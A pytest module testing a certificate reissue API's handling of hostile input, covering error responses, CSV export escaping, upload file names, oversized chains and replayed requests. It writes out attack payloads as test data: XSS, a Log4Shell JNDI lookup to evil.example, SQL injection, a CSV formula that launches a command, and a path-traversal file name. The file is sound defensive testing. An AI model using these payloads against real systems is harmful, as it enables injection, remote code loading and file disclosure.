"""Rows of 7.3: every case of tests/support/hostile.py gets its answer, which tells nothing of the inside."""
import csv
import io
import json
import re
import time

import pytest

from support.calls import World
from support.foreign import foreign_pem
from support.hostile import CASES, Place
from support.keys import make_csr, make_key

# What no answer may show: the database, its objects, our source, the libraries.
INSIDE = re.compile(r"SQLSTATE|violates|constraint|relation|pg_|libpq|PG::|ERROR:|syntax error|OpenSSL|asn1|ulfius|jansson|"
                    r"\.[ch]:\d|\.sql|/src/|0x[0-9a-f]{8}", re.I)


@pytest.fixture(scope="module")
def place(instance, journey):
    return Place(World(instance, journey))


@pytest.mark.parametrize("case", [pytest.param(case, id=str(case), marks=pytest.mark.rows(*case.rows)) for case in CASES])
def test_hostile_input_is_refused(case, callers, place):
    """Hostile input gets the 4xx of its row as problem+json, and nothing of the inside."""
    answer = case.send(callers, place)
    assert answer.status in case.status, f"{answer.status}: {answer.text[:500]}"
    assert answer.headers["Content-Type"] == "application/problem+json"
    assert answer["status"] == answer.status and answer["type"] == f"/problems/{answer.code}"
    assert answer["request_id"] == answer.headers["X-Request-Id"]
    if case.code:
        assert answer.code == case.code
    if answer.status == 422 and case.pointers:
        assert tuple(sorted(answer.pointers())) == case.pointers
    if answer.status == 401:
        assert answer.headers["WWW-Authenticate"].startswith("Bearer")
    if answer.status == 405:
        assert answer.headers["Allow"]
    assert not INSIDE.search(answer.text), answer.text
    callers["subscriber"].check(answer)


@pytest.mark.rows(45)
@pytest.mark.parametrize("text", ["<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "{{7*7}}", "%n%s%x%p",
                                  "'; DROP TABLE reissue_request; --", "=cmd|' /C calc'!A0", 'a"b\\c\td\ne', "\u0440\u0430ypal"])
def test_text_is_text(text, journey, callers, instance):
    """What looks like code to some program is kept and given back as the text that it is."""
    request = journey.request(message=text)
    path = f"/v1/reissue-requests/{request['id']}"
    assert request["message"] == text
    assert callers["officer"].get(path).expect(200)["message"] == text
    exported = callers["officer"].get(f"/v1/reissue-requests?number={request['number']}",
                                      headers={"Accept": "text/csv"}).expect(200)
    (row,) = csv.DictReader(io.StringIO(exported.text, newline=""))
    assert all(value[:1] not in ("=", "+", "@", "\t", "\r") for value in row.values()), row
    answer = callers["subscriber"].get(path, headers={"User-Agent": text.replace("\n", " ").encode()}).expect(200)
    until = time.monotonic() + 5
    while not (lines := instance.log_lines(answer.request_id)):
        assert time.monotonic() < until
        time.sleep(0.05)
    assert [json.loads(line)["event"] for line in lines] == ["request"]


@pytest.mark.rows(61)
def test_the_name_of_a_file_is_nobodys_business(journey, callers):
    """A CSR sent with a file name that climbs is taken; the name is nowhere."""
    request = journey.request()
    answer = callers["subscriber"].put(f"/v1/reissue-requests/{request['id']}/csr", data=make_csr(make_key()).encode(), headers={
        "Content-Type": "application/pkcs10", "Content-Disposition": 'attachment; filename="../../etc/passwd.csr"'})
    assert answer.expect(200)["key"] and "passwd" not in answer.text


@pytest.mark.rows(107)
def test_an_old_certificate_that_today_s_rules_refuse(instance, journey, callers):
    """SHA-1, no SAN, a name of 70 characters: the request is made, tells every blocker, and cannot be submitted."""
    pem = foreign_pem("x" * 70, san=(), sha1=True)
    certificate = callers["officer"].post("/v1/certificates/import", {
        "pem": pem, "profile_id": instance["PROFILE_TLS_ID"], "owner_id": journey.user_id(callers["subscriber"])}).expect(201)
    request = journey.request(certificate.json, csr=make_csr(make_key()))
    assert request["status"] == "draft"
    pointers = {blocker["pointer"] for blocker in request["blockers"]}
    assert {"/subject/common_name", "/san"} <= pointers, request["blockers"]
    refused = callers["subscriber"].post(f"/v1/reissue-requests/{request['id']}/submit", {}).expect(409, "not-ready")
    assert refused["blockers"] == request["blockers"]


@pytest.mark.rows(110)
def test_a_chain_that_never_ends(instance, journey, callers):
    """A certificate with a chain of a thousand is refused, by size or by number, in no time."""
    leaf, more = foreign_pem(), foreign_pem(chain=True)
    body = {"profile_id": instance["PROFILE_DESKTOP_ID"], "owner_id": journey.user_id(callers["subscriber"])}
    begun = time.monotonic()
    for count in (20, 300, 1000):
        answer = callers["officer"].post("/v1/certificates/import", {**body, "pem": leaf + more * count})
        assert answer.status in (413, 422), (count, answer.text[:300])
    assert time.monotonic() - begun < 3


@pytest.mark.rows(128)
def test_a_captured_request_has_no_second_effect(journey, callers, instance):
    """What is sent again without a key changes nothing: the state of the first time, or 409, or 412."""
    subscriber, officer = callers["subscriber"], callers["officer"]
    certificate = journey.certificate(profile_id=journey.profile(vetting=True))
    body = {"certificate_id": certificate["id"], "reason": "key_lost", "csr": make_csr(make_key())}
    request = subscriber.post("/v1/reissue-requests", body).expect(201)
    refused = subscriber.post("/v1/reissue-requests", body).expect(409, "reissue-already-open")
    assert refused["conflicting_resource"]["id"] == request["id"]
    path = f"/v1/reissue-requests/{request['id']}"
    tag = {"If-Match": request.headers["ETag"]}
    subscriber.patch(path, {"message": "a"}, headers=tag).expect(200)
    subscriber.patch(path, {"message": "a"}, headers=tag).expect(412)
    journey.agreement(request.json)
    digest = subscriber.get(path).expect(200)["digest"]
    for caller, action, sent in ((subscriber, "submit", {}), (officer, "approve", {"digest": digest})):
        first = caller.post(f"{path}/{action}", sent).expect(200)
        again = caller.post(f"{path}/{action}", sent).expect(200)
        assert (again["status"], again["revision"], again["approvals"]) == (first["status"], first["revision"], first["approvals"])
    assert first["status"] == "issued" and len(first["approvals"]) == 1
    revoke = f"/v1/certificates/{certificate['id']}/revoke"
    first, again = (subscriber.post(revoke, {"reason": "superseded"}).expect(200).json for _ in range(2))
    assert first == again
    with instance.database() as connection, connection.cursor() as cursor:
        cursor.execute("SELECT action, count(*) FROM audit_event WHERE object_id IN (%s, %s) AND outcome = 'done' "
                       "GROUP BY 1 HAVING count(*) > 1", (request["id"], certificate["id"]))
        assert cursor.fetchall() == []


@pytest.mark.rows(67)
@pytest.mark.parametrize("end", ["\n", "\r\n"], ids=["LF", "CRLF"])
@pytest.mark.parametrize("label", ["CERTIFICATE REQUEST", "NEW CERTIFICATE REQUEST"])
def test_lines_end_as_they_like(end, label, journey, callers, instance):
    """A PEM with either label and either end of line is taken, as JSON and as bytes, and in an import."""
    path = f"/v1/reissue-requests/{journey.request()['id']}/csr"
    pem = make_csr(make_key()).replace("CERTIFICATE REQUEST", label).replace("\n", end)
    told = callers["subscriber"].put(path, {"csr": pem}).expect(200)
    same = callers["subscriber"].put(path, data=pem.encode(), headers={"Content-Type": "application/pkcs10"}).expect(200)
    assert same["revision"] == told["revision"]
    callers["officer"].post("/v1/certificates/import", {
        "pem": foreign_pem(chain=True).replace("\n", end), "profile_id": instance["PROFILE_DESKTOP_ID"],
        "owner_id": journey.user_id(callers["subscriber"])}).expect(201)
